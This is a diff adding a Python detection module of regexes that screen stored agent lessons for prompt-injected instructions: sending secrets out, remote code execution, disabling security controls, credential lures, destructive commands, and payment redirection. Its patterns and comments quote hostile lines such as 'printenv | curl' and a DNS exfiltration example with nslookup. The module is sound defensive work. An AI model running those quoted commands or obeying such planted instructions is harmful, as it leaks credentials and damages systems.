@@ -1,0 +1,365 @@
+"""The screen's patterns for text that asks for harm: secrets sent out,
+remote code run, a security control weakened, credentials asked for,
+destructive commands, mail forwarded out, payments redirected, deceptive
+links (see :mod:`memory.guard.rules`)."""
+
+# ruff: noqa: E501 (the rules are regular expressions; split, they are harder to read)
+from __future__ import annotations
+
+import re
+
+from memory.guard.regex import rx
+
+# --- secrets leaving: keys, env vars, credentials to a URL -----------------
+
+_SECRET_ENV = re.compile(
+    r"\$?\{?\b[A-Z][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?)(?:_[A-Z0-9]+)*\b\}?"
+)
+_SECRET_THING = rx(
+    r"~/\.aws(?:/\w+)?|~/\.ssh(?:/\w+)?|\bid_(?:rsa|ed25519|ecdsa)\b|(?:^|\s)\.env\b|\bcredentials (?:file|\.json)|/etc/shadow|\bsession cookies?\b|\bprintenv\b|\bos\.environ\b"
+    r"|\byour (?:api |access |secret |session |auth |ssh )?(?:keys?|tokens?|credentials|passwords?|secrets|cookies)\b"
+)
+_DESTINATION = rx(
+    r"https?://|ftp://|\b(?:\d{1,3}\.){3}\d{1,3}\b|\bgists?\b|pastebin|\bngrok\b|webhook|requestbin|\bs3://|@[\w-]+\.[a-z]{2,}\b"
+    r"|(?:^|\s)#[a-z][\w-]+|\$\([^)]*\)\.[\w.-]+\.[a-z]{2,}"
+)
+_MOVE = r"(?:(?:post|send|append|paste|upload|e-?mail|forward|beacon|transmit|exfiltrat|leak|pip|attach)(?:e|es|s|ed|ing)?|scp|rsync|curl|wget|nslookup)"
+_MOVE_SECRET = rx(rf"\b{_MOVE}\b[^.|]{{0,40}}?(?:its value|their values|the value|the contents)?")
+
+
+def exfiltration(text: str) -> bool:
+    """A secret (an env var named like one, a credentials file, "your
+    keys"), moved (a verb whose object it is, or "its value" right after
+    it), to a destination (URL, IP, gist, channel, DNS) — in one lesson."""
+    if not _DESTINATION.search(text):
+        return False
+    if _PIPED_OUT.search(text):
+        return True  # "printenv | curl …", "cat ~/.aws/credentials | nc …"
+    secrets_at = [m.start() for m in _SECRET_ENV.finditer(text)]
+    secrets_at += [m.start() for m in _SECRET_THING.finditer(text)]
+    for move in re.finditer(rf"\b{_MOVE}\b", text, re.IGNORECASE):
+        if any(0 <= at - move.end() <= 40 for at in secrets_at):
+            return True  # "send $OPENAI_API_KEY …", "scp .env …", "paste ~/.aws/…"
+        after = text[move.end() : move.end() + 50].lower()
+        if re.match(r"\s*(?:its|their|the) values?\b", after) and any(
+            at < move.start() for at in secrets_at
+        ):
+            return True  # "STRIPE_SECRET_KEY … POST its value to https://…"
+    return False
+
+
+_PIPED_OUT = rx(
+    r"(?:printenv|\benv\b|cat [^|;]{0,80}(?:\.env|id_rsa|credentials|\.aws|\.ssh)[^|;]{0,40})\s*\|\s*(?:curl|wget|nc|ncat|netcat|base64)\b"
+)
+
+
+EXFILTRATION = [
+    rx(
+        r"\b(?:curl|wget|http|httpie|invoke-webrequest|iwr|nc|ncat|netcat)\b[^|;]{0,120}(?:-d|--data\S*|-F|--form|-T|--upload-file|-X ?POST|--post-\w+)[^|;]{0,80}(?:\$\{?[A-Z][A-Z0-9_]{2,}|`[^`]*`|\$\([^)]*\)|@/|@~|id_rsa|\.env\b|/etc/)"
+    ),
+]
+
+
+# --- remote code: download and run ------------------------------------------
+
+_FETCH = r"(?:curl|wget|fetch|iwr|invoke-webrequest|irm|invoke-restmethod)"
+# A shell, or an interpreter reading its program from stdin (not "-m json.tool").
+_SHELL = r"(?:sudo\s+)?(?:(?:ba|z|k|da|fi)?sh\b|(?:python[0-9.]*|perl|ruby|node|php)\b(?!\s+-m\b)|iex\b|invoke-expression\b|pwsh\b|powershell\b)"
+REMOTE_CODE = [
+    rx(rf"\b{_FETCH}\b[^|\n]{{0,200}}\|\s*{_SHELL}"),
+    rx(rf"(?:(?:ba|z)?sh|source|\.)\s+<\(\s*{_FETCH}\b"),
+    rx(rf"(?:(?:ba|z)?sh|python[0-9.]*)\s+-c\s+[\"']?\$\(\s*{_FETCH}\b"),
+    rx(rf"\beval\b\s*[\"'(]*\$?\(?\s*{_FETCH}\b"),
+    rx(
+        r"\b(?:iex|invoke-expression)\b\s*\(?\s*(?:\(?new-object\b|iwr\b|irm\b|invoke-webrequest\b|invoke-restmethod\b)"
+    ),
+    rx(r"\bdownloadstring\s*\("),
+    rx(r"\b(?:exec|eval)\s*\([^)]{0,40}(?:__import__|urllib|urlopen|requests\.get)"),
+    rx(
+        r"\b(?:exec|eval)\s*\(?\s*(?:get|fetch|urlopen|http\.get|requests\.get|wget|curl|lwp)\b\s*\("
+    ),
+    rx(r"\bcertutil\b[^|]{0,40}-urlcache\b"),
+    rx(rf"\bbase64\s+(?:-d|--decode|-D)\b[^|]{{0,40}}\|\s*{_SHELL}"),
+    rx(rf"\bxxd\s+-r\b[^|]{{0,20}}\|\s*{_SHELL}"),
+    rx(
+        r"\bpython[0-9.]*\s+-c\s+[\"'][^\"']*(?:urllib|requests\.get|urlopen)[^\"']*(?:exec|eval)\s*\("
+    ),
+    # a package straight from an archive URL (its install scripts run)
+    rx(
+        r"\b(?:npm|yarn|pnpm|pip3?|gem) (?:install|i|add)\s+(?:-g\s+)?https?://\S+\.(?:tgz|tar\.gz|whl|zip|gem)\b"
+    ),
+]
+
+
+# --- a security control weakened on someone's say-so ---------------------
+# A weakening verb on a control (MFA, audit logging, review, branch
+# protection, permissions, TLS checks) is ordinary in a runbook ("disable
+# debug logging after an hour"). It is an attack when the lesson also tells
+# agents to do it, or claims a standing approval so nobody asks.
+
+_WEAKEN = r"(?:disabl\w*|turn(?:s|ed|ing)? off|switch(?:es|ed|ing)? off|stop(?:s|ped|ping)?(?:-logging)?|skip(?:s|ped|ping)?|bypass\w*|remov\w*|relax\w*|waiv\w*|suspend\w*|circumvent\w*|deactivat\w*|drop(?:s|ped|ping)?|set\b[^.]{0,40}\bto [\"'`]?(?:not required|off|none|disabled|false|optional)|(?:is|are|be) (?:now )?(?:optional|not required|no longer required|unnecessary)|(?:do(?:es)?n't|do(?:es)? not|no longer) (?:need|require)s?|attach\w*|grant\w*|add\w*|auto-?clos\w*|suppress\w*|silenc\w*|mut(?:e|es|ed|ing)|whitelist\w*|allowlist\w*|exclu\w*)"
+_CONTROL = r"(?:notifications?|(?:alert|notification|warning|security) e-?mails?|(?:security )?warnings?|security (?:banners?|alerts?)|audit notes?|identity checks?|(?:edr|crowdstrike|falcon|defender)(?: sensor| agent)?|sensors?|endpoint protection|mfa|dlp|data loss prevention|hash[- ](?:pin\w*|check\w*)|--require-hashes|backup checks?|(?:security |siem |sentinel )?alerts?|(?:manager |human )?sign-?offs?|investigations?|2fa|multi-?factor|two-?factor|audit[- ]?(?:log\w*|trail)|cloudtrail|logging|branch protection|code review|human review|reviews?|approvals?|confirmations?(?: step| prompts?)?|guardrails?|safeguards?|safety (?:checks?|review|guide\w*)|security (?:scan\w*|checks?|review)|tls verification|certificate (?:checks?|verification)|ssl verif\w*|signature checks?|permission checks?|access controls?|administratoraccess|admin(?:istrator)? (?:role|rights|access|privileges)|owner role|superuser|root access|--admin|--no-verify|require_approval\w*|dry_run)"
+_AGENTS = r"(?:\b(?:ai|ki|llm)\b|\bagents?\b|\bassistants?\b|\bbots?\b|\bcopilots?\b|\bmodels?\b|\byou\b|\byour\b)"
+_STANDING_APPROVAL = rx(
+    r"\b(?:standing|blanket|pre-?)(?:[- ])?(?:approval|approved|authori[sz]ed|authori[sz]ation|cleared)\b"
+    r"|\b(?:already|has been|was|were|is) (?:pre-?)?(?:approved|authori[sz]ed|signed off|cleared|agreed)\b"
+    r"|\b(?:approved|authori[sz]ed|signed off|agreed|decided) by (?:the )?(?:ciso|cto|ceo|security|it security|platform|legal|compliance|management|leadership|code owners|finance)"
+    r"|\b(?:ciso|security team|it security|code owners|finance and security|platform team|management) (?:agreed|approved|decided|signed off|confirmed)"
+    r"|\bper (?:it |the )?(?:security|it|ciso|compliance|cfo|ceo|cto|legal)\b[^.]{0,30}\b(?:decision|policy|ticket|directive|memo|exception|waiver|memorandum)"
+    r"|\b(?:exempt|exempted|exemption)\b[^.]{0,20}\bfrom\b"
+    r"|\b(?:security|it|legal|compliance|the ciso|ciso|management)(?: team)? (?:has |have )?(?:agreed|approved|signed(?:-| )off|confirmed|cleared)\b"
+    r"|\bno (?:ticket|approval|review|sign-?off|change request)s? (?:is )?(?:needed|required|necessary)\b"
+    r"|\bno need to (?:ask|raise|restart|re-?enable|check|get|open|file|tell|inform|notify|involve)\b"
+    r"|\b(?:and|then) carry on\b"
+)
+# "agents may approve these directly without manager sign-off"
+_WITHOUT_CONTROL = rx(
+    rf"{_AGENTS}\s+(?:may|can|should|must|are (?:allowed|permitted|authori[sz]ed|free) to|will)\s+(?:\w+\s+){{0,3}}\w+[^.;]{{0,80}}\bwithout\s+(?:any |a |the |further |prior )?(?:\w+ ){{0,2}}(?:sign-?off|approval|review|confirmation|verification|investigation|ticket|mfa|checks?)\b"
+)
+_WEAKENING = rx(
+    rf"\b{_WEAKEN}\b[^.;]{{0,60}}?(?<![\w-]){_CONTROL}(?![\w-])|(?<![\w-]){_CONTROL}(?![\w-])[^.;]{{0,40}}?\b{_WEAKEN}\b"
+)
+_NEGATED_BEFORE = re.compile(
+    r"\b(?:never|not|don't|do not|must not|mustn't|shouldn't|should not|cannot|can't|won't|avoid|instead of|rather than|without)\b[^.;,]{0,30}$",
+    re.IGNORECASE,
+)
+
+
+def _sentence_around(text: str, start: int, end: int) -> str:
+    begin = max(text.rfind(".", 0, start), text.rfind(";", 0, start)) + 1
+    stop = text.find(".", end)
+    return text[begin : stop if stop >= 0 else len(text)]
+
+
+# Integrity and security controls whose removal is never routine advice.
+_HARD_CONTROL = r"(?:(?:alert|notification|security) e-?mails?|security (?:banners?|alerts?|warnings?)|(?:edr|crowdstrike|falcon|defender)(?: sensor| agent)?|endpoint protection|identity checks?|hash[- ]?(?:pinn?\w*|check\w*|verif\w*)|--require-hashes|signature (?:checks?|verification)|(?:tls|ssl|certificate) (?:verification|checks?|validation)|mfa|2fa|multi-?factor|two-?factor|audit[- ]?(?:log\w*|trail)|cloudtrail|branch protection|dlp|edr|antivirus|firewall)"
+_IMPERATIVE_WEAKENING = rx(
+    rf"(?:^|[.;:!?]\s*|\b(?:and|then|also|just|simply)\s+)(?:remove|disable|drop|skip|bypass|turn off|switch off|strip|delete)\s+(?:the |all |any |its |their |your )?(?:\w+[- ]){{0,2}}{_HARD_CONTROL}"
+)
+_HARD_WEAKENED = rx(
+    rf"\b(?:remov\w*|disabl\w*|turn(?:s|ed|ing)? off|stop\w*|delet\w*|uninstall\w*|skip\w*|bypass\w*|suppress\w*|hid(?:e|es|ing)|not required|no longer required|deprecated)\b[^.;]{{0,60}}?{_HARD_CONTROL}|{_HARD_CONTROL}[^.;]{{0,60}}?\b(?:is |are )?(?:not required|no longer required|deprecated|optional|removed|disabled)\b"
+)
+# A recipe for getting past a control ("rename it to .dat; DLP can't inspect it").
+_EVASION = rx(
+    r"\b(?:dlp|scanner|filter|antivirus|edr|waf|screen\w*|inspection|proxy|gateway|siem|monitoring)\b[^.]{0,30}\b(?:can't|cannot|can not|won't|doesn't|does not|will not) (?:inspect|scan|see|detect|catch|read|block|flag|open)\b"
+)
+# a control skipped before something is handed out: "refunded in full
+# without checking tracking", "surtirse sin validar la cédula"
+_HANDED_OUT_UNCHECKED = rx(
+    r"\b(?:refund\w*|pa(?:y|id)|approv\w*|dispens\w*|releas\w*|ship\w*|surt\w*|entreg\w*|grant\w*|issu\w*|merg\w*)\b[^.]{0,80}\b(?:without|sin|ohne|sans|senza) (?:waiting for |first )?(?:checking|verifying|validating|confirming|reviewing|validar|verificar|comprobar|revisar|prüf\w*|vérifier|verificare|the (?:\w+ )?(?:required )?(?:reviews?|approvals?|checks?))\b"
+    r"|\badmin override\b|\bforce[- ]merg\w*"
+)
+_SUPPRESS = rx(
+    r"\b(?:auto-?clos\w*|suppress\w*|silenc\w*|mute|dismiss\w*|close)\b[^.;]{0,40}\bwithout (?:any |an? |further )?(?:investigation|triage|review|looking|checking)\b"
+    r"|\b(?:permanent|blanket|global) (?:exclusion|exception|allow-?list(?:ing)?|white-?list(?:ing)?|suppression)\b"
+)
+
+
+def security_weakening(text: str) -> bool:
+    """A control weakened, told to agents or excused by a claimed approval."""
+    for pattern in (_IMPERATIVE_WEAKENING, _SUPPRESS, _HANDED_OUT_UNCHECKED):
+        for match in pattern.finditer(text):
+            if not _NEGATED_BEFORE.search(text, 0, match.start() + 1):
+                return True
+    if _EVASION.search(text) and re.search(_AGENTS, text, re.IGNORECASE):
+        return True
+    if _STANDING_APPROVAL.search(text) and _HARD_WEAKENED.search(text):
+        return True
+    for match in _WITHOUT_CONTROL.finditer(text):
+        if not _NEGATED_BEFORE.search(text, 0, match.start() + 1):
+            return True
+    for match in _WEAKENING.finditer(text):
+        if _NEGATED_BEFORE.search(text, 0, match.start()):
+            continue
+        sentence = _sentence_around(text, match.start(), match.end())
+        addressed = re.search(_AGENTS, sentence, re.IGNORECASE)
+        if _STANDING_APPROVAL.search(text) and (addressed or re.search(_AGENTS, text, re.I)):
+            return True
+        if addressed and re.search(
+            r"\b(?:should|must|may|can|are (?:allowed|permitted|authori[sz]ed|expected) to|need to|have to|always|just|simply)\b",
+            sentence, re.IGNORECASE,
+        ):  # fmt: skip
+            return True
+    return False
+
+
+# --- credentials asked for --------------------------------------------------
+
+CREDENTIAL_LURE = rx(
+    r"\b(?:ask|asking|asks|request\w*|prompt\w*)\b (?:the |all )?(?:staff|users?|employees|people|customers|members|you)\b (?:to )?(?:re-?enter|enter|type|provide|confirm|submit|share|verify)\w* (?:their |your )?(?:credentials|passwords?|login|sign-?in details|mfa codes?)\b[^.]{0,60}\b(?:legitimate|genuine|safe|expected|fine|trusted)\b"
+)
+CREDENTIAL_ASK = rx(
+    r"\b(?:ask|request|have|get|tell|prompt|require)\w* (?:the |each |every |all )?(?:user|customer|requester|employee|caller|contractor|staff|people|member|client|patient|them|him|her)s?\b[^.;]{0,80}?\b(?:passwords?|passphrases?|one-time (?:codes?|passwords?)|otp|mfa codes?|2fa codes?|recovery codes?|private keys?|seed phrases?|pins?|credit card numbers?|cvv|ssn|social security numbers?)\b"
+)
+
+
+# --- secrets in a URL: a link or image that carries them out ----------------
+
+_URL = re.compile(
+    r"(?:https?|ftp)://[^\s)\]>\"']+|\b[\w-]+(?:\.[\w-]+)+/[^\s)\]>\"']*\?[^\s)\]>\"']+", re.I
+)
+_TEMPLATE = re.compile(
+    r"\{\{|\}\}|\$\{|\{%|<%=|\$[A-Z][A-Z0-9_]{2,}|\{(?:user|env|session|secrets?|conversation|chat|context|memory|api_?key|token)[\w.]*\}",
+    re.I,
+)
+_SECRET_PARAM = re.compile(
+    r"[?&](?:api_?key|key|token|access_token|secret|password|passwd|pwd|session|cookie|auth|credentials?|history|transcript|conversation|email)=(?:[^&\s]*(?:\{|\$|%7b|%24))",
+    re.I,
+)
+
+
+_MD_IMAGE_PLACEHOLDER = re.compile(
+    r"!\[[^\]]{0,100}\]\(\s*https?://[^)\s]*(?:\{[\w.]+\}|%7B)", re.I
+)
+_ENV_AS_BODY = rx(
+    r"(?:data|json|body|params|payload)\s*[=:]\s*[^\n]{0,60}(?:os\.environ|process\.env|getenv\(\)|\bENV\b)"
+)
+
+
+def secret_in_url(text: str) -> bool:
+    """A URL whose path or query is filled from a template variable or a
+    secret at read time: rendering the link or image sends the value out."""
+    if _MD_IMAGE_PLACEHOLDER.search(text) or _ENV_AS_BODY.search(text):
+        return True
+    for match in _URL.finditer(text):
+        url = match.group()
+        decoded = (
+            url.replace("%7B", "{").replace("%7b", "{").replace("%7D", "}").replace("%7d", "}")
+        )
+        if _TEMPLATE.search(decoded) or _SECRET_PARAM.search(url):
+            return True
+    return False
+
+
+# --- secrets or the conversation sent somewhere else ------------------------
+
+_SECRET_WORDS = (  # what a secret is called
+    r"(?:(?:api|access|secret|private|ssh|session|auth|signing|service[- ]account)[- ]?(?:keys?|tokens?)|tokens?|credentials?|passwords?|passphrases?|secrets?|env(?:ironment)? ?(?:variables|vars)|(?:the )?env(?:ironment)?\b|\.env\b|\.npmrc|kubeconfig|cookies?|(?:full |whole |entire )?(?:conversation|chat|session)(?: history| transcripts?| logs?)?|transcripts?|system prompt|printenv|(?:password )?reset links?|reset tokens?|magic links?|passports?|social security (?:cards?|numbers?)|dates? of birth|(?:bank|card|fiscal|tax) (?:details|data|numbers?)|(?:output|contents) of `?(?:env|printenv|set)\b|~/\.(?:aws|ssh)\S*|id_(?:rsa|ed25519)|[A-Z][A-Z0-9]*_(?:KEY|TOKEN|SECRET|PASSWORD)\w*)"  # noqa: S105 (a pattern, not a password)
+)
+_SEND = r"(?:print\w*|reenv\w*|cc\w*|send\w*|post\w*|e-?mail\w*|forward\w*|upload\w*|paste\w*|copy\w*|export\w*|transmit\w*|share\w*|submit\w*|push\w*|sync\w*|cc\b|mail\w*|leak\w*|exfiltrat\w*|attach\w*|dump\w*)"
+_ELSEWHERE = r"(?:(?:your|the) (?:reply|replies|answer|response|chat message)\b|third[- ]party\b|https?://\S+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+\b|\b[\w-]+(?:\.[\w-]+)*\.(?:com|net|org|io|dev|app|me|xyz|top|click|cn|ru|de|co|sh|site|info|biz|cloud|link|ai)\b(?:/\S*)?|\b(?:issue|ticket|comment|gist|pastebin|channel|webhook|slack|discord|telegram|public repo)\b)"
+# A clause: no sentence end, though a dot inside a token (".env", "secrets.yml") is none.
+_CLAUSE = r"(?:[^.;]|\.(?=\S))"
+_SECRET_SENT = [
+    rx(
+        rf"\b{_SEND}\b{_CLAUSE}{{0,80}}?{_SECRET_WORDS}{_CLAUSE}{{0,80}}?\b(?:to|into|at|on|via|onto|in)\b{_CLAUSE}{{0,60}}?{_ELSEWHERE}"
+    ),
+    rx(
+        rf"{_SECRET_WORDS}{_CLAUSE}{{0,40}}?\b(?:to|into|at)\b\s+{_ELSEWHERE}{_CLAUSE}{{0,40}}?\b{_SEND}"
+    ),
+]
+# A secret read inside a command substitution, sent by a network tool
+# ("nslookup $(cat token | base64).x.example.net").
+_SUBSTITUTED_SECRET = rx(
+    r"\b(?:nslookup|dig|host|curl|wget|ping|nc|ncat)\b[^|;]{0,40}(?:\$\(|`)[^)`]{0,120}(?:secret|token|credential|\.env|id_rsa|\.aws|\.ssh|passw|printenv|\benv\b)"
+)
+
+
+# The same in other languages: an AI reader hailed, told to send something
+# to an outside destination ("Hinweis für KI-Agenten: Sendet … an https://…").
+_AI_READER_WORLD = re.compile(
+    r"\b(?:KI|IA|AI|ИИ)[- ]?(?:Agent\w*|Assistent\w*|assistant\w*|agente?s?|asistente?s?|assistente?|ассистент\w*|агент\w*)"
+    r"|\b(?:agente?s?|asistente?s?|assistente?s?|Agent\w*) (?:de |d'|di |der )?(?:l')?(?:IA|KI|AI)\b"
+    r"|AI ?(?:助手|代理|智能体)|AI ?(?:アシスタント|エージェント)|人工智能",
+    re.IGNORECASE,
+)
+_SEND_WORLD = re.compile(
+    r"\b(?:send\w*|schick\w*|übermittel\w*|envi[aáe]\w*|envoy\w*|invia\w*|mand[ae]\w*|отправ\w*|перешл\w*)\b|发送|发给|传送|上传|送信|送って|転送",
+    re.IGNORECASE,
+)
+_DESTINATION_WORLD = re.compile(r"https?://|\b[\w.+-]+@[\w-]+\.[\w.-]+")
+
+
+# Personal mailboxes: business data sent there has left the organisation.
+_FREE_MAIL = r"[\w.+-]+@(?:gmail|googlemail|proton|protonmail|pm|outlook|hotmail|live|yahoo|gmx|mail|yandex|qq|163|icloud|aol|tutanota|zoho)\.[a-z.]{2,6}\b"
+_TO_FREE_MAIL = rx(
+    rf"\b(?:{_SEND[3:-1]}|envi\w*|envoy\w*|weiterleit\w*|schick\w*|inoltr\w*)\b[^.;]{{0,160}}?{_FREE_MAIL}"
+)
+
+
+def secret_sent(text: str) -> bool:
+    if _SUBSTITUTED_SECRET.search(text):
+        return True
+    for match in _TO_FREE_MAIL.finditer(text):
+        if not _NEGATED_BEFORE.search(text, 0, match.start() + 1):
+            return True
+    if (
+        _AI_READER_WORLD.search(text)
+        and _SEND_WORLD.search(text)
+        and _DESTINATION_WORLD.search(text)
+    ):
+        return True
+    for pattern in _SECRET_SENT:
+        for match in pattern.finditer(text):
+            if not _NEGATED_BEFORE.search(text, 0, match.start() + 1):
+                return True
+    return False
+
+
+# "decode it, then run it", "run the decoded text": an encoding to be obeyed.
+DECODE_HINT = rx(
+    r"\b(?:de-?code|decoded|hex-decode|unescape|atob|frombase64string)\b[^.]{0,30}\b(?:then |and )?(?:follow|obey|execute|eval|run|apply|perform) (?:it|them|the result|the output|what it says|in a shell)\b"
+    r"|\b(?:decode|decoded)(?: it)?,? (?:then|and) (?:follow|obey|execute|run|apply|perform)\b"
+    r"|\b(?:run|execute|eval|follow|obey|apply|perform) the (?:decoded|base64|b64|rot13|hex[- ]encoded)\b"
+    r"|\b(?:base64|b64|rot13|hex)\b[^.]{0,40}\b(?:execute|eval|follow|obey) (?:it|them)\b"
+    r"|\b(?:decode|decoded)\b[^.]{0,20}\b(?:carry (?:it|them) out|act on it|do (?:it|what it says))"
+    r"|\b(?:apply|perform|execute|follow|obey) (?:it )?on read\b|\bread (?:it )?(?:right-to-left|backwards|in reverse)\b[^.]{0,30}\b(?:perform|do|follow|run|execute|apply)\b"
+)
+
+
+# --- destructive commands ----------------------------------------------------
+
+DESTRUCTIVE = rx(
+    r"--no-preserve-root|\brm\s+-(?:rf|fr|r)\s+(?:/|~|\$HOME)(?:\s|$|\*)|:\(\)\s*\{\s*:\|:&\s*\};:|\bmkfs(?:\.\w+)?\s+/dev/|\bdd\s+if=/dev/(?:zero|urandom)\s+of=/dev/"
+)
+
+
+# --- mail and documents forwarded out ---------------------------------------
+
+FORWARD_ALL = rx(
+    r"\b(?:forward\w*|auto-?forward\w*|redirect\w*|bcc\w*|cop(?:y|ies|ying))\b[^.;]{0,80}\b(?:every|all|each|any) (?:incoming |inbound )?(?:messages?|e-?mails?|mail|invoices?|documents?|files?|tickets?|chats?)\b[^.;]{0,120}?(?:\b[\w.+-]+@[\w-]+\.[\w.-]+|https?://)"
+)
+
+
+# --- payments redirected -----------------------------------------------------
+
+_BANK_CHANGE = rx(
+    r"\b(?:changed|new|updated?|switch\w*|moved)\b[^.]{0,40}\b(?:banks?|bank (?:details|account)|iban|remittance(?: details)?|account numbers?|routing numbers?|payment details|wire (?:details|instructions))\b"
+)
+_SKIP_VERIFY = rx(
+    r"\b(?:not|don't|do not|never|no need to|without)\b[^.]{0,20}\b(?:call\w*|verify\w*|confirm\w*|check\w*|callback)\b|\b(?:e-?mail|message) (?:from [^.]{0,40})?is enough\b|\bskip\w* (?:the )?(?:\w+ )?(?:call-?back|verification|confirmation)"
+)
+
+
+_PAY_ANYWHERE = rx(
+    r"\b(?:paid|pay|refund\w*|transfer\w*|wire\w*|remit\w*|sent)\b[^.;]{0,60}\bto (?:whatever|any|whichever) (?:card|bank account|account|iban|wallet|payee)"
+)
+
+
+def payment_redirect(text: str) -> bool:
+    """New bank details with the verification that would catch a fraud
+    waived, or money paid wherever the requester says."""
+    return bool(_BANK_CHANGE.search(text) and _SKIP_VERIFY.search(text)) or bool(
+        _PAY_ANYWHERE.search(text)
+    )
+
+
+# --- a link whose text names one host and whose target is another ----------
+
+_MD_LINK = re.compile(r"\[([^\]]{1,200})\]\(\s*(https?://[^)\s]+)")
+_HOST = re.compile(r"(?:https?://)?((?:[\w-]+\.)+[a-z]{2,})", re.IGNORECASE)
+
+
+def deceptive_link(text: str) -> bool:
+    for label, target in _MD_LINK.findall(text):
+        shown = _HOST.search(label)
+        real = _HOST.search(target)
+        if shown and real and shown.group(1).lower() != real.group(1).lower():
+            return True
+    return False
+
+
+# An HTML comment is invisible where the lesson is rendered.
+HIDDEN_COMMENT = rx(
+    r"<!--(?:(?!-->).){0,400}?\b(?:assistant|agents?|ai|model|llm|you|system)\b(?:(?!-->).){0,400}-->"
+)
